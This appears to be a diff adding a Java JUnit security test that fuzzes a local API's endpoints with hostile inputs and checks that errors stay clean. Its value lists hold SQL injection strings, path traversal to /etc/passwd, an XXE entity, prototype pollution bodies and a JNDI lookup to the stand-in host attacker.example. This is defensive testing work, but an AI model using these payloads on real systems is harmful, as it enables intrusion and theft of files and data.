@@ -1,0 +1,225 @@
+package org.integrationevidence.security;
+
+import static io.restassured.RestAssured.given;
+import static org.integrationevidence.TestKeys.bearer;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.Iterator;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.RestAssured;
+
+import org.integrationevidence.TestData;
+import org.integrationevidence.TestKeys;
+import org.junit.jupiter.api.Test;
+
+/**
+ * No hostile input gets a 5xx, a stack trace or SQL: every operation of the OpenAPI document is sent hostile path
+ * values, hostile values for each of its query parameters and headers, and hostile bodies, with a key that may call
+ * it. Every answer must be below 500, and every error a problem document that names nothing internal.
+ */
+@QuarkusTest
+class HostileInputTest {
+
+    static final List<String> HOSTILE_VALUES = List.of("", " ", "'", "\"", "' OR '1'='1", "1; DROP TABLE case_study;--",
+            "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%zz", "%", "\\", "<script>alert(1)</script>",
+            "${jndi:ldap://attacker.example/a}", "{{7*7}}", "#{7*7}", "-1", "0", "99999999999999999999999", "1e309", "NaN",
+            "-0", "true", "null", "[]", "{}", "*", "?", "&", "=", "+", "\uD83D\uDE00", "\u202Egnp.exe", "ä".repeat(300),
+            "a".repeat(5000), "\t\r\n", "iek_" + "A".repeat(43), "slug with spaces", "/", "//", "..");
+
+    /** Values for headers: those a header can carry at all. */
+    static final List<String> HOSTILE_HEADER_VALUES = List.of("", "'", "\"", "' OR '1'='1", "-1", "*", "W/", "\"\\\"",
+            "${jndi:ldap://attacker.example/a}", "a".repeat(5000), "iek_" + "A".repeat(43), "Basic Og==", ",,,,", "text/*;q=x");
+
+    static final List<String> HOSTILE_BODIES = List.of("", "null", "[]", "{", "}", "\"text\"", "1", "true", "{}",
+            "[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
+            "{\"title\": {\"$gt\": \"\"}}", "{\"title\": 1e99999}", "{\"limit\": 99999999999999999999999999}",
+            "{\"title\": \"" + "x".repeat(100_000) + "\"}", "{\"__proto__\": {\"admin\": true}}",
+            "{\"constructor\": {\"prototype\": {\"admin\": true}}}", "{\"title\": \"\\ud800\"}", "{\"title\":\"a\",\"title\":\"b\"}",
+            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
+            "{\"role\": \"root\", \"name\": \"x\", \"owner\": \"y\"}", "\u0000\u0001\u0002");
+
+    private static final HttpClient CLIENT = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
+            .followRedirects(HttpClient.Redirect.NEVER).build();
+
+    private static final List<String> FORBIDDEN_IN_ERRORS = List.of("exception", "at org.", "at java.", "hibernate",
+            "org.h2", "postgres", "sqlstate", "select ", "insert into", "stacktrace", "caused by");
+
+    @Test
+    void noOperationAnswersHostileInputWithA5xx() throws Exception {
+        String key = TestKeys.admin();
+        Map<String, String> fixtures = fixtures(key);
+        JsonNode document = new ObjectMapper().readTree(given().accept("application/json").when()
+                .get("/q/openapi?format=json").then().statusCode(200).extract().asString());
+        List<String> failures = new ArrayList<>();
+        int requests = 0;
+        for (Iterator<Map.Entry<String, JsonNode>> paths = document.get("paths").fields(); paths.hasNext();) {
+            Map.Entry<String, JsonNode> path = paths.next();
+            for (Iterator<Map.Entry<String, JsonNode>> operations = path.getValue().fields(); operations.hasNext();) {
+                Map.Entry<String, JsonNode> operation = operations.next();
+                String method = operation.getKey().toUpperCase(Locale.ROOT);
+                String template = path.getKey();
+                String contentType = firstContentType(operation.getValue());
+                String validBody = contentType == null ? null : "{}";
+                List<String> names = parameterNames(operation.getValue());
+
+                // Hostile values in each path parameter, the others naming fixtures.
+                for (String parameter : names.stream().filter(n -> n.startsWith("path:")).toList()) {
+                    for (String value : HOSTILE_VALUES) {
+                        String url = expand(template, fixtures, parameter.substring(5), value);
+                        requests++;
+                        check(failures, method + " " + url, send(method, url, authorized(key, contentType), validBody));
+                    }
+                }
+                String url = expand(template, fixtures, null, null);
+                // Hostile values in each query parameter and header.
+                for (String parameter : names.stream().filter(n -> !n.startsWith("path:")).toList()) {
+                    for (String value : parameter.startsWith("query:") ? HOSTILE_VALUES : HOSTILE_HEADER_VALUES) {
+                        Map<String, String> headers = authorized(key, contentType);
+                        String target = url;
+                        if (parameter.startsWith("query:")) {
+                            target = url + "?" + encode(parameter.substring(6)) + "=" + encode(value);
+                        } else {
+                            headers.put(parameter.substring(7), value);
+                        }
+                        requests++;
+                        check(failures, method + " " + url + " " + parameter + "=" + abbreviate(value),
+                                send(method, target, headers, validBody));
+                    }
+                }
+                // Hostile bodies, under the declared content type and under types nobody declared.
+                if (contentType != null) {
+                    for (String body : HOSTILE_BODIES) {
+                        for (String type : body.length() < 100 ? List.of(contentType, "text/plain", "application/xml") : List.of(contentType)) {
+                            requests++;
+                            check(failures, method + " " + url + " body " + abbreviate(body) + " as " + type,
+                                    send(method, url, authorized(key, type), body));
+                        }
+                    }
+                }
+                // Hostile credentials and content negotiation.
+                for (String value : HOSTILE_HEADER_VALUES) {
+                    requests += 2;
+                    check(failures, method + " " + url + " Authorization: Bearer " + abbreviate(value),
+                            send(method, url, new HashMap<>(Map.of("Authorization", "Bearer " + value)), null));
+                    check(failures, method + " " + url + " Accept: " + abbreviate(value),
+                            send(method, url, withAccept(authorized(key, null), value), null));
+                }
+            }
+        }
+        assertTrue(requests > 1000, "only " + requests + " hostile requests were sent");
+        assertTrue(failures.isEmpty(), failures.size() + " of " + requests + " hostile requests were mishandled:\n"
+                + String.join("\n", failures.subList(0, Math.min(30, failures.size()))));
+    }
+
+    @Test
+    void malformedUrlsAreRefusedCleanly() throws Exception {
+        for (String raw : List.of("/api/v1/case-studies/%zz", "/api/v1/case-studies/%00", "/api/v1/case-studies/..%2f..%2fetc",
+                "/api/v1/case-studies/%c0%ae%c0%ae", "/api/v1/case-studies?q=%", "/api/v1/case-studies?limit=%zz",
+                "/api/v1/%2e%2e/%2e%2e/q/openapi", "/api/v1/case-studies/a%2Fb", "/api/v1/case-studies;jsessionid=1",
+                "/api/v1/case-studies//", "/api/v1/./case-studies", "/api/v1/case-studies/%ff%fe", "/api/v1/case-studies/\u00e4",
+                "*", "/../../etc/passwd", "/api/v1/case-studies?" + "a=1&".repeat(2000))) {
+            int status = RawHttp.statusOf("GET " + raw + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
+            assertTrue(status >= 200 && status < 500, raw + " answered " + status);
+        }
+    }
+
+    /** Real resources for the path parameters that are not under attack, made by this test so it may change them. */
+    private static Map<String, String> fixtures(String key) {
+        String approach = given().spec(bearer(key)).contentType("application/json")
+                .body(Map.of("slug", TestData.unique("hostile"), "name", TestData.unique("Hostile input"),
+                        "definition", "An approach made for the hostile input test."))
+                .when().post("/api/v1/approaches").then().statusCode(201).extract().path("slug");
+        Map<String, Object> body = TestData.caseStudy(approach);
+        String slug = given().spec(bearer(key)).contentType("application/json").body(body)
+                .when().post("/api/v1/case-studies").then().statusCode(201).extract().path("slug");
+        return Map.of("caseStudy", slug, "approach", approach, "id", "999999999", "number", "1", "type", "validation");
+    }
+
+    private static String expand(String template, Map<String, String> fixtures, String hostileName, String hostileValue) {
+        String url = template;
+        for (String name : List.of("slug", "id", "number", "type")) {
+            String value = name.equals(hostileName) ? encode(hostileValue)
+                    : name.equals("slug") ? (template.startsWith("/api/v1/approaches") ? fixtures.get("approach") : fixtures.get("caseStudy"))
+                    : fixtures.get(name);
+            url = url.replace("{" + name + "}", value);
+        }
+        return url;
+    }
+
+    private static String encode(String value) {
+        return java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8).replace("+", "%20");
+    }
+
+    private static Map<String, String> authorized(String key, String contentType) {
+        Map<String, String> headers = new HashMap<>();
+        headers.put("Authorization", "Bearer " + key);
+        headers.put("If-Match", "*");
+        if (contentType != null) {
+            headers.put("Content-Type", contentType);
+        }
+        return headers;
+    }
+
+    private static Map<String, String> withAccept(Map<String, String> headers, String accept) {
+        headers.put("Accept", accept);
+        return headers;
+    }
+
+    /**
+     * Sends one request with the JDK's client: thousands are sent, and REST Assured's own overhead per request
+     * would be most of the suite's time.
+     */
+    private static Answer send(String method, String pathAndQuery, Map<String, String> headers, String body) throws Exception {
+        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + RestAssured.port + pathAndQuery))
+                .timeout(Duration.ofSeconds(30))
+                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
+        headers.forEach(request::header);
+        HttpResponse<String> response = CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
+        return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""), response.body());
+    }
+
+    private record Answer(int status, String contentType, String body) {
+    }
+
+    private static void check(List<String> failures, String what, Answer answer) {
+        int status = answer.status();
+        String body = answer.body();
+        String lower = body.toLowerCase(Locale.ROOT);
+        if (status >= 500) {
+            failures.add(what + " -> " + status + " " + abbreviate(body));
+        } else if (status >= 400 && !body.isEmpty() && !answer.contentType().startsWith("application/problem+json")) {
+            failures.add(what + " -> " + status + " as " + answer.contentType() + ", not a problem document");
+        } else if (status >= 400 && FORBIDDEN_IN_ERRORS.stream().anyMatch(lower::contains)) {
+            failures.add(what + " -> " + status + " names internals: " + abbreviate(body));
+        }
+    }
+
+    private static String firstContentType(JsonNode operation) {
+        JsonNode content = operation.path("requestBody").path("content");
+        return content.fieldNames().hasNext() ? content.fieldNames().next() : null;
+    }
+
+    private static List<String> parameterNames(JsonNode operation) {
+        List<String> names = new ArrayList<>();
+        operation.path("parameters").forEach(parameter -> names.add(parameter.path("in").asText() + ":" + parameter.path("name").asText()));
+        return names;
+    }
+
+    private static String abbreviate(String value) {
+        return value.length() <= 60 ? value : value.substring(0, 60) + "…(" + value.length() + ")";
+    }
+}
